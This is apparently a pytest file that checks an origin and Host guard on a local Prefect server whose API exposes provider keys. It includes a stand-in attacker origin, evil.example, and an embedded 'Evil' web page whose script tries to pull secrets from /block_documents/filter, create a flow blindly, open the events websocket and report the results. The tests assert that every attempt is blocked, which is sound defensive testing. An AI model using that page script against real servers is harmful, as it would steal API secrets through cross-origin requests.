"""Access to the stack's Prefect server, whose API has the providers' keys."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import httpx
import pytest
from websockets.exceptions import InvalidStatus
from websockets.sync.client import connect
from websockets.typing import Origin

from deployments.local.prefect_server import guarded
from tests.deployments.frontend import CHROMIUM, look_at
from tests.gateway.gateways import Gateway, Upstream
from tests.support.source_server import SourceFile, serving

SECRETS = {"include_secrets": True}
EVIL = "http://evil.example"


@pytest.fixture
def prefect(upstream: Upstream) -> Iterator[httpx.Client]:
    with httpx.Client(base_url=upstream.prefect_api_url, timeout=20, trust_env=False) as client:
        yield client


def names(prefect: httpx.Client) -> set[str]:
    """Names of all flows."""
    return {flow["name"] for flow in prefect.post("/flows/filter", json={}).json()}


@pytest.mark.parametrize(
    "headers",
    [
        {"Origin": EVIL},
        {"Origin": "null"},
        {"Origin": "http://127.0.0.1:1"},
        {"Host": "evil.example"},
        {"Host": "evil.example:4200", "Origin": "http://evil.example:4200"},
    ],
)
def test_foreign_pages_get_nothing(prefect: httpx.Client, headers: dict[str, str]) -> None:
    asking = {**headers, "Access-Control-Request-Method": "POST"}
    for answer in (
        prefect.post("/block_documents/filter", json=SECRETS, headers=headers),
        prefect.options("/block_documents/filter", headers=asking),
        prefect.get("/health", headers=headers),
    ):
        assert answer.status_code == 403
        assert "access-control-allow-origin" not in answer.headers
        assert "test-app-secret" not in answer.text
    # A body without a type is sent without asking first, and taken as JSON.
    prefect.post("/flows/", content=b'{"name": "of-evil"}', headers=headers)
    assert "of-evil" not in names(prefect)


def test_this_machine_gets_what_it_asks_for(prefect: httpx.Client) -> None:
    own = f"http://127.0.0.1:{prefect.base_url.port}"
    for headers in ({}, {"Origin": own}):
        answer = prefect.post("/block_documents/filter", json=SECRETS, headers=headers)
        assert answer.status_code == 200
        assert "test-app-secret" in answer.text


def test_events_are_for_own_pages(upstream: Upstream) -> None:
    """Browsers send no preflight before they open a websocket to another origin."""
    address = f"{upstream.prefect_api_url.replace('http', 'ws', 1)}/events/out"
    with pytest.raises(InvalidStatus, match="403"):
        connect(address, origin=Origin(EVIL), proxy=None).close()
    with connect(address, proxy=None) as socket:
        assert socket.protocol.state.name == "OPEN"


@pytest.mark.parametrize(
    ("origins", "host", "origin", "status"),
    [
        ("http://127.0.0.1:4200,http://localhost:4200", "127.0.0.1:4200", "localhost:4200", 204),
        ("https://prefect.example.com", "prefect.example.com", "prefect.example.com", 204),
        ("*", "127.0.0.1:4200", "evil.example", 403),
        ("*", "evil.example:4200", "evil.example:4200", 403),
    ],
)
async def test_origins_of_the_setting(origins: str, host: str, origin: str, status: int) -> None:
    async def app(scope: Any, receive: Any, send: Any) -> None:
        await send({"type": "http.response.start", "status": 204, "headers": []})
        await send({"type": "http.response.body", "body": b""})

    scheme = urlsplit(origins).scheme or "http"
    transport = httpx.ASGITransport(guarded(app, origins))
    async with httpx.AsyncClient(transport=transport, base_url=f"http://{host}") as client:
        answer = await client.get("/", headers={"Origin": f"{scheme}://{origin}"})
    assert answer.status_code == status


PAGE = """<!doctype html><meta charset="utf-8"><title>Evil</title><script type="module">
const [prefect, gateway] = GIVEN
const got = []
const attempt = async (name, call) => {
  try { got.push([name, await call()]) } catch (error) { got.push([name, null]) }
}
const text = async (url, options) => (await fetch(url, options)).text()
const json = {'Content-Type': 'application/json'}
const secrets = JSON.stringify({include_secrets: true})
await attempt('keys', () => text(`${prefect}/block_documents/filter`,
                                 {method: 'POST', headers: json, body: secrets}))
await attempt('keys, unasked', () => text(`${prefect}/block_documents/filter`,
                                          {method: 'POST', body: new Blob([secrets])}))
await attempt('a flow, blindly', async () => {
  const body = new Blob([JSON.stringify({name: 'of-a-page'})])
  const answer = await fetch(`${prefect}/flows/`, {method: 'POST', mode: 'no-cors', body})
  return await answer.text() || null
})
await attempt('events', () => new Promise((opened, failed) => {
  const socket = new WebSocket(`${prefect.replace('http', 'ws')}/events/out`)
  socket.onopen = () => opened('open')
  socket.onerror = failed
}))
await attempt('jobs', () => text(`${gateway}/api/v1/jobs`))
await fetch('/report', {method: 'POST', body: JSON.stringify(got)})
</script>"""


@pytest.mark.skipif(CHROMIUM is None, reason="there is no chromium on this machine")
def test_a_page_of_another_origin_in_a_browser(
    prefect: httpx.Client, upstream: Upstream, gateway: Gateway, tmp_path: Path
) -> None:
    given = json.dumps([upstream.prefect_api_url, gateway.url])
    with serving() as site:
        page = PAGE.replace("GIVEN", given).encode()
        site.add("/", SourceFile(page, content_type="text/html"))
        got = look_at(site, tmp_path / "profile", 60)
    assert got == [
        [name, None] for name in ("keys", "keys, unasked", "a flow, blindly", "events", "jobs")
    ]
    assert "of-a-page" not in names(prefect)
